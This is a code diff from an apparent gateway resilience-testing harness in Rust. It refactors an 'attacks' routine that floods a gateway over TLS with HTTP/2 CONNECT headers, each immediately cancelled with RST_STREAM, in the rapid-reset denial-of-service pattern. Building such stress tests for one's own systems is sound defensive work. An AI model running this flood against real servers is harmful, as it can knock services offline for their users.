@@ -19,7 +19,7 @@ use tokio::time::{MissedTickBehavior, interval, sleep};
 use tokio_rustls::TlsConnector;
 use tokio_rustls::client::TlsStream;
 
-use crate::attacks::{Attack, Entrance, Reach, Run, preface};
+use crate::attacks::{Attack, Entrance, RETRY, Reach, Run, preface, send_rounds};
 use crate::gateways::NOISE;
 use crate::support::raw;
 use crate::support::{Endpoint, GATEWAY, identities};
@@ -33,8 +33,6 @@ const TICK: Duration = Duration::from_millis(5);
 const AT_ONCE: usize = 1000;
 /// Tunnels of the only connection, or of all connections, that requests and bytes use.
 const TUNNELS: usize = 64;
-/// Pause after an attempt that has failed.
-const RETRY: Duration = Duration::from_millis(50);
 const REQUEST: [u8; 64] = [b'e'; 64];
 const CHUNK: usize = 16 * 1024;
 
@@ -245,43 +243,26 @@ async fn abandoned(
     mut first: Option<TlsStream<TcpStream>>,
     rate: u32,
 ) {
-    let mut tick = interval((Duration::from_secs(1) / rate).max(TICK));
+    let every = (Duration::from_secs(1) / rate).max(TICK);
     let per_tick = (TICK * rate).as_secs().max(1);
+    let connect: [(&str, &[u8]); 2] = [(":method", b"CONNECT"), (":authority", NOISE.as_bytes())];
     loop {
         let stream = match first.take() {
             Some(stream) => Ok(stream),
             None => preface(gateway, Arc::clone(&tls)).await,
         };
-        let Ok(stream) = stream else {
-            sleep(RETRY).await;
-            continue;
-        };
-        let (mut read, mut write) = tokio::io::split(stream);
-        let writes = async {
-            let mut stream = 1;
-            loop {
-                tick.tick().await;
+        if let Ok(stream) = stream {
+            send_rounds(stream, every, |stream| {
                 let mut frames = Vec::new();
                 for _ in 0..per_tick {
-                    let connect: [(&str, &[u8]); 2] =
-                        [(":method", b"CONNECT"), (":authority", NOISE.as_bytes())];
-                    frames.extend(raw::headers(stream, &connect));
-                    frames.extend(raw::frame(raw::RST_STREAM, 0, stream, &[0, 0, 0, 8]));
-                    stream += 2;
-                }
-                if write.write_all(&frames).await.is_err() || write.flush().await.is_err() {
-                    return;
+                    frames.extend(raw::headers(*stream, &connect));
+                    frames.extend(raw::frame(raw::RST_STREAM, 0, *stream, &[0, 0, 0, 8]));
+                    *stream += 2;
                 }
                 count(per_tick);
-            }
-        };
-        let reads = async {
-            let mut buffer = vec![0; CHUNK];
-            while read.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
-        };
-        tokio::select! {
-            () = writes => {}
-            () = reads => {}
+                frames
+            })
+            .await;
         }
         sleep(RETRY).await;
     }
